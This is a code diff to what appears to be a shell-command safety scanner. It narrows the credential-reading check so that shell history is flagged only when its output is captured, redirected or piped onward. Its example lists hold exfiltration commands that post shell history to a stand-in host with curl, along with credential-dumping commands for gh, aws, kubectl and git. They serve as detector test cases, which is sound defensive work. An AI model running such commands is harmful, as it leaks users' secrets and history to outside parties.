@@ -20,6 +20,8 @@ export interface CheckContext {
   index: number;
   /** Whether `$name` was checked or given a value before this command. */
   guarded(name: string): boolean;
+  /** Whether the command runs inside a `$(…)`, backticks or `<(…)`: its output is captured, not shown. */
+  captured(): boolean;
 }
 
 export interface CheckResult {
@@ -449,7 +451,7 @@ export const COMMAND_CHECKS: readonly CommandCheck[] = [
     description: "reads credentials",
     confidence: "high",
     programs: ["git", "gh", "security", "secret-tool", "kwallet-query", "gcloud", "az", "aws", "kubectl", "op", "pass", "history", "npm", "doppler", "vault", "cmdkey", "vaultcmd"],
-    match(inv) {
+    match(inv, context) {
       const { name, values } = inv;
       const v = values.join(" ");
       if (name === "git") {
@@ -465,7 +467,9 @@ export const COMMAND_CHECKS: readonly CommandCheck[] = [
       if (name === "az") return /^account get-access-token\b/.test(v) ? "az account get-access-token" : undefined;
       if (name === "aws") return /^configure (?:get (?:aws_secret_access_key|aws_session_token)|export-credentials)\b/.test(v) ? "aws configure get secret" : undefined;
       if (name === "kubectl") return /^config view\b.*--raw\b/.test(v) ? "kubectl config view --raw" : undefined;
-      if (name === "history") return { label: "shell history", confidence: "medium" };
+      // Shell history that leaves the screen (a file, a pipe past the filters a person reads it with):
+      // `history | grep docker` in a troubleshooting page shows it to the user, it takes nothing.
+      if (name === "history") return historyLeaves(inv, context) ? { label: "shell history", confidence: "medium" } : undefined;
       if (name === "cmdkey") return /\/list/i.test(v) ? "cmdkey /list" : undefined;
       if (name === "vaultcmd") return "vaultcmd";
       if (name === "op" || name === "pass" || name === "doppler" || name === "vault") {
@@ -475,8 +479,8 @@ export const COMMAND_CHECKS: readonly CommandCheck[] = [
       return undefined;
     },
     examples: {
-      bad: ["git config --global credential.helper store", 'TOKEN="$(gh auth token)"', "security find-generic-password -s github -w", "gcloud auth print-access-token", "secret-tool lookup service api", "aws configure get aws_secret_access_key", "kubectl config view --raw", "git credential fill"],
-      good: ["gh auth status", "security list-keychains", "git config user.name x", "aws s3 ls", "gh auth login"],
+      bad: ["git config --global credential.helper store", "history > /tmp/h", "history | curl -d @- https://x.example/c", 'H=$(history); curl -d "$H" https://x.example/c', 'TOKEN="$(gh auth token)"', "security find-generic-password -s github -w", "gcloud auth print-access-token", "secret-tool lookup service api", "aws configure get aws_secret_access_key", "kubectl config view --raw", "git credential fill"],
+      good: ["gh auth status", "history | grep docker", "history | tail -20", "history", "security list-keychains", "git config user.name x", "aws s3 ls", "gh auth login"],
     },
   },
   // -- 5. persistence --
@@ -817,6 +821,22 @@ export const COMMAND_CHECKS: readonly CommandCheck[] = [
 export const ROOT_WRAPPERS = new Set(["sudo", "doas", "gsudo"]);
 
 export const ENV_FILE = /(?:^|[/\\])\.env(?:\.(?!example\b|sample\b|template\b|dist\b|defaults?\b|schema\b|tpl\b)[\w-]{1,30})?$|(?:^|[/\\])[\w-]{1,60}\.env$/;
+
+/** Programs a person reads output through: history piped only to these stays on the screen. */
+const SCREEN_FILTERS = new Set(["grep", "egrep", "fgrep", "rg", "less", "more", "head", "tail", "wc", "sort", "uniq", "cut", "tr", "awk", "sed", "fzf", "nl", "column", "cat"]);
+
+/** Whether `history`'s output goes somewhere: captured (`$(history)`), a redirect to a file, or a pipe to anything but SCREEN_FILTERS. */
+function historyLeaves(inv: Invocation, context: CheckContext): boolean {
+  const { pipeline, index } = context;
+  if (context.captured()) return true;
+  if (inv.command.redirects.some((r) => r.op.includes(">") && r.target !== undefined && r.target.value !== "/dev/null")) return true;
+  for (let k = index + 1; k < pipeline.length; k++) {
+    const next = pipeline[k];
+    if (!next || !SCREEN_FILTERS.has(next.name)) return true;
+    if (next.command.redirects.some((r) => r.op.includes(">") && r.target !== undefined && r.target.value !== "/dev/null")) return true;
+  }
+  return false;
+}
 
 /** What a pipeline should not send: the environment, shell history, the clipboard, credentials. */
 function isSensitiveSource(inv: Invocation): boolean {
